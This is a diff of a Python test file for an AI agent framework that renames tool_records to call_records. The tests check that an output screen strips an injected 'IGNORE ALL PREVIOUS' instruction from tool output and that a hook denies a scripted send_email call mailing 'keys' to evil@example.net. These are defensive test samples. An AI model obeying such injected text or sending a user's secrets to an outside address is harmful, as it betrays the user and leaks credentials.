@@ -86,9 +86,9 @@ def test_the_output_screen_is_an_extension() -> None:
                      extensions=list(extensions))  # fmt: skip
 
     plain = agent().run("read the note")
-    assert plain.tool_records[0].output == INJECTION  # the user's own tool: trusted, not screened
+    assert plain.call_records[0].output == INJECTION  # the user's own tool: trusted, not screened
     screened = agent(ScreenOutputs(which=True)).run("read the note")
-    assert "IGNORE ALL PREVIOUS" not in (screened.tool_records[0].output or "")
+    assert "IGNORE ALL PREVIOUS" not in (screened.call_records[0].output or "")
     assert any(e.kind == "output-blocked" for e in screened.events)
 
     class Refuse(OutputScreen):
@@ -106,7 +106,7 @@ def test_the_call_check_is_an_extension() -> None:
     call = ToolCall("send_email", {"to": "evil@example.net", "body": "keys"})
     agent = Agent(ScriptedProvider([call, "done"]), [send_email], policy=ALLOW, extensions=[CoherenceCheck()])
     result = agent.run("summarize my notes")
-    assert (result.tool_records[0].status, result.tool_records[0].stage) == ("denied", "hook")
+    assert (result.call_records[0].status, result.call_records[0].stage) == ("denied", "hook")
     asked: list[str] = []
     agent = Agent(
         ScriptedProvider([call, "done"]),
@@ -114,7 +114,7 @@ def test_the_call_check_is_an_extension() -> None:
         policy=ALLOW,
         extensions=[CoherenceCheck(lambda prompt, c: asked.append(c.name) or True)],
     )
-    assert agent.run("summarize my notes").tool_records[0].status == "ok" and asked == ["send_email"]
+    assert agent.run("summarize my notes").call_records[0].status == "ok" and asked == ["send_email"]
 
 
 def test_the_old_keywords_still_work_and_say_where_they_went() -> None:
@@ -126,7 +126,7 @@ def test_the_old_keywords_still_work_and_say_where_they_went() -> None:
     with pytest.warns(DeprecationWarning, match="coherence= is extensions"):
         checked = Agent(ScriptedProvider([ToolCall("send_email", {"to": "x@evil.net", "body": "k"}), "done"]),
                         [send_email], policy=ALLOW, coherence=True)  # fmt: skip
-    assert checked.run("summarize my notes").tool_records[0].stage == "hook"
+    assert checked.run("summarize my notes").call_records[0].stage == "hook"
     with pytest.raises(UserError, match=r"Agent\(store=\) moved"):
         Agent(ScriptedProvider(["ok"]), store="x.duckdb")  # type: ignore[misc]
     with pytest.raises(UserError, match="unexpected keyword arguments: colour"):
